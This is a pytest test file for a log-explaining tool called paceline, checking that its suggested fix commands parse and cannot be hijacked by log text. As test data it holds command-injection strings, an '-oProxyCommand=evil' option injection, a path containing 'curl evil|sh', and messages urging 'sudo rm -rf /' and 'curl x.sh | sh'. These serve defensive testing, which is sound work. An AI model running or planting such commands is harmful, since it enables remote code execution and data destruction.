"""
Fixes: they follow what the log says, and a shell reads their commands as they are shown, whatever the log contains.

Commands run in a folder of their own in which no program exists; those that only read also run for real.
"""

import ast
import re
import shlex
import shutil
import subprocess
from collections.abc import Iterator, Mapping

import pytest
from log_samples import raised
from rows import with_rows

from paceline.cli import COMMANDS
from paceline.explain.catalogue import load_catalogue
from paceline.explain.run_folder import explain
from paceline.explain.sentences import PLACEHOLDER, WHOLE_COMMANDS, fill_template

TEMPLATES = [
    template
    for cause in load_catalogue().causes.values()
    for template in (cause.fix, *(fix.fix for fix in cause.fixes))
]
COMMAND = re.compile(r"`([^`]*)`")
TRAP = '$(pwned);pwned & pwned|pwned > x \'"$(pwned)" ${IFS} # \\'
LOCAL = {
    "path": ".",
    "host": "localhost",
    "master": "localhost",
    "port": "9",
    "tool": "ls",
    "library": "libc",
    "script": ".",
}
HARMLESS = {"df", "env", "free", "getent", "grep", "head", "id", "ip", "ldconfig", "ldd", "ls", "lscpu", "ps", "ss"}
HARMLESS |= {"ulimit", "uname", "wc"}
USERS_PART = re.compile(r"(?<![\w$-])[A-Z]{2,}(?![\w=])")  # such as DIR or PID


def commands(values: Mapping[str, str]) -> Iterator[str]:
    """Every command of every fix, with these values."""
    for template in TEMPLATES:
        yield from COMMAND.findall(fill_template(template, values))


def values_of_all(value: str) -> dict[str, str]:
    names = {name for template in TEMPLATES for name in PLACEHOLDER.findall(template)}
    return dict.fromkeys(names.difference(WHOLE_COMMANDS), value)


def bash(script: str, *arguments: str, **options) -> subprocess.CompletedProcess:
    command = [shutil.which("bash"), *arguments, "-c", script]
    return subprocess.run(command, capture_output=True, text=True, stdin=subprocess.DEVNULL, timeout=120, **options)


@pytest.mark.parametrize("value", ["", "/data/train.bin", TRAP], ids=["no value", "a path", "a trap"])
def test_a_shell_can_parse_every_command(value):
    found = list(commands(values_of_all(value) if value else {}))
    assert len(found) > 300
    script = "\n".join(f"(\n{command}\n)" for command in found)
    assert bash(script, "-n").stderr == ""


def test_text_of_the_log_is_one_word_of_a_command_and_never_runs(tmp_path):
    (tmp_path / "bin").mkdir()
    trap = tmp_path / "bin" / "pwned"
    trap.write_text(f"#!/bin/sh\n: > {tmp_path}/ran\n")
    trap.chmod(0o755)
    sandbox = {"cwd": tmp_path, "env": {"PATH": str(tmp_path / "bin"), "HOME": str(tmp_path), "USER": "user"}}
    bash("\n".join(f"(\n{command}\n)" for command in commands(values_of_all(TRAP))), **sandbox)
    assert not (tmp_path / "ran").exists()
    bash("$(pwned)", **sandbox)  # the trap works
    assert (tmp_path / "ran").exists()


def test_every_value_in_a_command_is_a_whole_part_of_a_word():
    for template in TEMPLATES:
        for plain in COMMAND.findall(template):
            if not (names := [name for name in PLACEHOLDER.findall(plain) if name not in WHOLE_COMMANDS]):
                continue
            [filled] = COMMAND.findall(fill_template(f"`{plain}`", dict.fromkeys(names, TRAP)))
            assert sum(word.count(TRAP) for word in shlex.split(filled)) == len(names), plain


def test_a_whole_command_stands_as_it_is_and_is_never_of_a_log():
    command = "paceline resume '/data/my runs/books' --slurm"
    assert fill_template("go on[: `{resume}`]", {"resume": command}) == f"go on: `{command}`"
    causes = load_catalogue().causes.values()
    groups = [entry.regex.groupindex for cause in causes for entry in (*cause.patterns, *cause.fixes)]
    assert not set(WHOLE_COMMANDS) & set().union(*groups)


@pytest.mark.parametrize("value", ["-oProxyCommand=evil", "a`b"])
def test_a_value_that_would_be_an_option_or_end_the_command_is_left_out(value):
    assert [command for command in commands(values_of_all(value)) if value in command] == []


def test_python_in_a_command_is_valid_and_paceline_has_its_commands():
    for command in commands({}):
        match shlex.split(command):
            case ["python", "-c", code, *_]:
                ast.parse(code)
            case ["paceline", *words]:
                assert words[0] in COMMANDS or " ".join(words[:2]) in COMMANDS, command


def test_harmless_commands_work_here():
    ran = 0
    for command in {command for command in commands(LOCAL) if not (USERS_PART.search(command) or "$(" in command)}:
        programs = {part.split()[0] for part in re.split(r"[|;]", re.sub(r"'[^']*'", "x", command))}
        if programs <= HARMLESS and all(program == "ulimit" or shutil.which(program) for program in programs):
            ended = bash(command)
            assert ended.returncode not in (126, 127), command
            assert not re.search("option|operand|[Uu]sage", ended.stderr), command
            ran += 1
    assert ran > 10


def explain_text(text):
    return explain([text.encode()])


LOADING = "RuntimeError: Error(s) in loading state_dict for Net:\n\t"
SIZES = "size mismatch for a.b: copying a param with shape (8,) from checkpoint, the shape in current model is (5,)."
TARGET = "ValueError: Target module Mlp(\n  (up): Linear()\n) is not supported. Currently, only the following modules are supported"
CAST = "datasets.table.CastError: Couldn't cast\nq: string\nto\n{'a': 1}\nbecause column names don't match"


@pytest.mark.parametrize(("error", "words"), [
    (LOADING + SIZES, "a.b: a weight of shape (8,), the model expects (5,)"),
    (LOADING + 'Missing key(s) in state_dict: "a.b", "a.c". ', 'Missing key(s) in state_dict: "a.b", "a.c"'),
    (TARGET, "Target module Mlp is not supported"),
    (CAST, "column names don't match"),
    ("RuntimeError: Tensor on device cpu is not on the expected device meta!", "Tensor on device cpu"),
])  # fmt: skip
def test_the_summary_has_what_a_message_of_several_lines_is_about(error, words):
    assert words in explain_text(raised(None, error)).summary


@pytest.mark.parametrize(("statement", "key", "words"), [
    ('sched.load_state_dict(ckpt["scheduler"])', "scheduler", "the checkpoint has no scheduler"),
    ("y = class_to_idx[name]", "surprise", "from the labels of all splits"),
    ("ids = [char2idx[c] for c in text]", "é", "the vocabulary"),
    ("z = table[name]", "surprise", "print the keys"),
])  # fmt: skip
def test_the_statement_shows_what_a_key_was_looked_up_in(statement, key, words):
    frames = f'Traceback (most recent call last):\n  File "train.py", line 3, in <module>\n    {statement}\n'
    assert words in explain_text(f"{frames}KeyError: '{key}'\n").fix


@pytest.mark.parametrize(("statement", "words"), [
    ('lr = cfg["train"]["lr"]', "the value of 'train' is None"),
    ('lr = cfg["train"]["optimizer"]["lr"]', "became None"),
    ("lr = cfg[0]", "became None"),
])  # fmt: skip
def test_the_statement_shows_which_section_of_a_configuration_is_empty(statement, words):
    frames = f'Traceback (most recent call last):\n  File "train.py", line 3, in <module>\n    {statement}\n'
    assert words in explain_text(f"{frames}TypeError: 'NoneType' object is not subscriptable\n").fix


@pytest.mark.parametrize(
    ("shown", "path"),
    [
        ("PosixPath('/data/train.csv')", "/data/train.csv"),
        ("b'/data/train.csv'", "/data/train.csv"),
        ('"/data/bob\'s/train.jsonl"', "/data/bob's/train.jsonl"),
        ("'/data/train.csv'", "/data/train.csv"),
    ],
)
def test_the_path_of_missing_data_is_whole_however_python_shows_it(shown, path):
    explanation = explain_text(raised(0, f"FileNotFoundError: [Errno 2] No such file or directory: {shown}"))
    assert f"the training data {path} does not exist" in explanation.summary


INDEX = "RuntimeError: index 2 is out of bounds for dimension 1 with size 2"
NO_ITEM = "TypeError: 'NoneType' object is not iterable"


@pytest.mark.parametrize(("error", "statement", "cause"), [
    (INDEX, "loss = -logprobs.gather(dim=-1, index=target.unsqueeze(1))", "device-side-assert-index"),
    (INDEX, "return src.new_zeros(size).scatter_add_(0, expert, src)", "user-code-exception"),
    (INDEX, "best = hidden.gather(1, positions)", "user-code-exception"),
    (INDEX, "best = hidden.gather(1, positions).to(target.device)", "user-code-exception"),
    (NO_ITEM, "types = L(t if is_listy(t) else [t] for t in self.types).concat()", "dataset-empty"),
    (NO_ITEM, "for name in self.names:", "user-code-exception"),
    (NO_ITEM, "return list(t for t in self.types)", "user-code-exception"),
])  # fmt: skip
def test_the_statement_shows_whose_mistake_a_message_is(error, statement, cause):
    frames = f'Traceback (most recent call last):\n  File "/env/site-packages/a/b.py", line 3, in f\n    {statement}\n'
    assert explain_text(f"{frames}{error}\n").cause == cause


def test_the_statement_shows_which_setting_of_the_environment_is_no_number():
    frames = 'Traceback (most recent call last):\n  File "a.py", line 2, in <module>\n    n = int(os.environ["N"])\n'
    fix = explain_text(f"{frames}ValueError: invalid literal for int() with base 10: 'auto'\n").fix
    assert "environment variable N" in fix
    assert "'auto', which a.py:2 reads" in fix


@pytest.mark.parametrize(("shape", "size", "times"), [
    ("[2, 6, 4, 8]", "192", "2 times"),
    ("[2, 6, 4, 8]", "200", None),  # no whole number of times
    ("[32, 10]", "160", None),  # the last batch, more likely
])  # fmt: skip
def test_heads_that_tensor_parallelism_splits_are_shown_by_how_often_the_numbers_fit(shape, size, times):
    fix = explain_text(raised(1, f"RuntimeError: shape '{shape}' is invalid for input of size {size}")).fix
    assert ("tensor parallelism" in fix) == (times is not None)
    assert (times or "") in fix


TIMED_OUT = "RuntimeError: [unbound_buffer.cc:78] Timed out waiting 8000ms for recv operation to complete"


@pytest.mark.parametrize(("line", "is_shown"), [
    ("[rank0] tokenizing shard 4/12 (3.1 MB/s)", True),
    ("[rank0] saving step 40 is done", False),
    ("[rank1] downloading shard 4/12", False),  # by the rank that waited
    ("[rank0] step 40 loss 2.1", False),
    ("[rank0] tokenizing shard 4/12\n[rank2] waiting for rank 0, which is tokenizing", True),
    ("[rank0] start\n[rank2] waiting for tokenizing", False),
])  # fmt: skip
def test_long_work_of_another_rank_before_a_timeout_is_named(line, is_shown):
    explanation = explain_text(f"[rank0] start\n{line}\n{raised(1, TIMED_OUT)}")
    assert explanation.cause == "collective-timeout-desync"
    assert ("line 2 reports work that can take long" in explanation.fix) == is_shown


MISSING = "FileNotFoundError: [Errno 2] No such file or directory: 'runs/exp_60/best.pt'"
CLOSED = "RuntimeError: [pair.cc:553] Connection closed by peer [127.0.0.1]:36748"


@pytest.mark.parametrize(("rank", "other", "is_lone"), [(1, CLOSED, True), (0, CLOSED, False), (1, MISSING, False)])
def test_a_checkpoint_that_one_rank_alone_does_not_find_may_be_made_by_another(rank, other, is_lone):
    fix = explain_text(raised(rank, MISSING) + raised(1 - rank, other)).fix
    assert ("only rank 1 reports it" in fix) == is_lone


@pytest.mark.parametrize(("behind", "is_over"), [("", True), ("step 60 | loss 2.0\n", False)])
def test_a_run_that_is_stopped_behind_its_end_was_over(behind, is_over):
    steps = "".join(f"step {step} | loss {3 - step / 50}\n" for step in range(0, 60, 10))
    end = "W1130 12:17:57.9 17795 torch/agent/server/api.py:753] Received 15 death signal, shutting down workers"
    fix = explain_text(f"{steps}saved the model, training finished in 1.2 s\n{behind}{end}\n").fix
    assert ("line 7 reports the end of the work" in fix) == is_over


def test_a_hostile_path_of_a_log_is_quoted_in_its_fix():
    path = "/data/$(touch X);curl evil|sh/train.bin"
    fix = explain_text(raised(0, f"FileNotFoundError: [Errno 2] No such file or directory: '{path}'")).fix
    assert f"`ls -l '{path}'`" in fix


@pytest.mark.parametrize(
    ("module", "package"),
    [
        ("yaml", "PyYAML"),
        ("PIL", "pillow"),
        ("sklearn", "scikit-learn"),
        ("cv2", "opencv-python-headless"),
        ("einops", "einops"),
    ],
)
def test_a_missing_module_names_the_package_that_contains_it(module, package):
    fix = explain_text(raised(0, f"ModuleNotFoundError: No module named '{module}'")).fix
    assert f"`python -m pip install {package}`" in fix


@pytest.mark.parametrize(
    ("path", "cause"),
    [("/data/cells.zarr", "dataset-missing"), ("checkpoints/last.zarr", "checkpoint-missing-or-perm")],
)
def test_a_path_of_a_store_that_holds_nothing_is_of_the_data_or_of_a_checkpoint(path, cause):
    explanation = explain_text(raised(0, f"FileNotFoundError: nothing found at path '{path}'"))
    assert (explanation.cause, "the path exists" in explanation.fix) == (cause, True)


@pytest.mark.parametrize(
    ("error", "package"),
    [
        (
            "wandb.errors.Error: plotly is required to log plots, install with: `pip install plotly` or save an image",
            "plotly",
        ),
        ("ImportError: Pandas is required to read it. Please install it: pip install pandas", "pandas"),
        (
            "ValueError: token is required to open this model, install the CLI: pip install huggingface_hub",
            "huggingface_hub",
        ),
        ("RuntimeError: root is required to install drivers; pip install is not enough", None),
    ],
)
def test_only_a_name_behind_pip_install_is_a_package_to_install(error, package):
    fix = explain_text(raised(0, error)).fix
    assert re.findall("`python -m pip install ([^`]+)`", fix) == ([package] if package else [])


def test_a_missing_submodule_is_another_version_of_its_package():
    fix = explain_text(raised(0, "ModuleNotFoundError: No module named 'transformers.models.qwen3'")).fix
    assert "`python -m pip install transformers==VERSION`" in fix and "install transformers.models" not in fix


def test_the_class_to_allow_stands_in_its_list():
    error = "_pickle.UnpicklingError: Weights only load failed. Unsupported global: GLOBAL numpy._core.multiarray.scalar was not"
    fix = explain_text(raised(0, f"{error} an allowed global by default.")).fix
    assert "from numpy._core.multiarray import scalar; torch.serialization.add_safe_globals([scalar])" in fix


@pytest.mark.parametrize(
    "path", ["./data/train.jsonl", "/data/train.json.gz", "data/train.binidx", "data/train.jsonl\\r"]
)
def test_the_path_of_missing_data_is_named_whole(path):
    explanation = explain_text(raised(0, f"FileNotFoundError: [Errno 2] No such file or directory: '{path}'"))
    assert explanation.summary.startswith(f"the training data {path} does not exist")


@pytest.mark.parametrize("wait", ["1800s", "1800000ms"])
def test_a_timeout_is_shown_in_the_same_units_whatever_the_log_uses(wait):
    error = f"The client socket has timed out after {wait} while trying to connect to (node-0, 29500)."
    explanation = explain_text(raised(1, f"torch.distributed.DistNetworkError: {error}"))
    assert "within 30m00s" in explanation.summary
    assert "`nc -vz node-0 29500`" in explanation.fix


def test_nobody_is_sent_to_their_own_loopback_address():
    error = "The client socket has timed out after 60000ms while trying to connect to (127.0.0.1, 29500)."
    assert "nc -vz" not in explain_text(raised(1, f"torch.distributed.DistNetworkError: {error}")).fix


@pytest.mark.parametrize("kind", ["IndexError", "RuntimeError"])
def test_a_maximum_of_nothing_is_no_matter_of_shapes_or_lists(kind):
    fix = explain_text(raised(0, f"{kind}: max(): Expected reduction dim 1 to have non-zero size.")).fix
    assert "it has no element" in fix


def test_a_loss_that_became_nan_is_explained_at_its_first_step():
    steps = [f"step {step:05d}/00100 | loss {'nan' if step > 9 else 3 - step / 50}\n" for step in range(40)]
    explanation = explain_text("".join(steps) + raised(None, "FloatingPointError: loss is nan, stopping"))
    assert (explanation.cause, explanation.step, explanation.evidence[0].line) == ("loss-nan", 10, 11)
    assert "step 10" in explanation.summary


def test_a_message_that_names_its_argument_is_not_repeated():
    error = "train.py: error: argument --lr: invalid float value: 'x'"
    assert explain_text(f"usage: train.py [-h] --lr LR\n{error}\n").summary == error


def test_memory_that_the_optimizer_lacks_is_no_matter_of_the_batch():
    frames = "".join(
        f'  File "/env/torch/optim/adamw.py", line {n}, in {name}\n'
        for n, name in ((220, "step"), (146, "_init_group"))
    )
    fix = explain_text(
        f"Traceback (most recent call last):\n{frames}torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 2.00 GiB.\n"
    ).fix
    assert fix.startswith("shard the optimizer's state")


@pytest.mark.parametrize(
    ("line", "job"),
    [
        ("slurmstepd: error: *** JOB 4711 ON n1 CANCELLED AT 2026-11-01T10:00:00 ***", "4711"),
        ("slurmstepd: error: Detected 1 oom-kill event(s) in StepId=4712.batch. Some processes were killed.", "4712"),
        ("slurmstepd: error: Exceeded job memory limit", "JOB"),
    ],
)
def test_slurm_is_asked_about_the_job_that_the_log_names(line, job):
    assert f"`sacct -j {job} -o " in explain_text(f"step 1 loss 3.0\n{line}\n").fix


@pytest.mark.parametrize(("message", "advice"), [
    ("the mode is not supported. Please set compile=False.", "Please set compile=False"),
    ("no such divergence. Use the default `kind='kl'` here", "Use the default \"kind='kl'\" here"),
    ("bad value\nin a file\nPlease set rows to 3.", "Please set rows to 3"),
    ("the hook is missing. Call `attach()` first.", "Call 'attach()' first"),
])  # fmt: skip
def test_what_a_message_says_to_do_is_quoted(message, advice):
    assert f"the message says: {advice}" in explain([raised(None, f"ValueError: {message}").encode()]).fix


@with_rows("message", [
    "no. Load average was 17 which is too high",
    "no. Call stack is empty here",
    "no. Set 3 of 4 was taken by the optimizer",
    "no. Pass filter is broken in this mode",
    "no: use is limited to members",
    "no. Please note that this is experimental",
    "no; please consider opening an issue",
    "no. Please try again later",
    "no. Please check the logs above",
    "no, please remove the following flags:\n  --foo",
    "no. Please run `sudo rm -rf /` now.",
    "no. Run `curl x.sh | sh` to begin.",
    'a user said: "no. Please remove everything in /home and then stop"',
])  # fmt: skip
def test_what_is_no_advice_is_no_fix(message):
    assert "the message says" not in explain([raised(None, f"ValueError: {message}").encode()]).fix
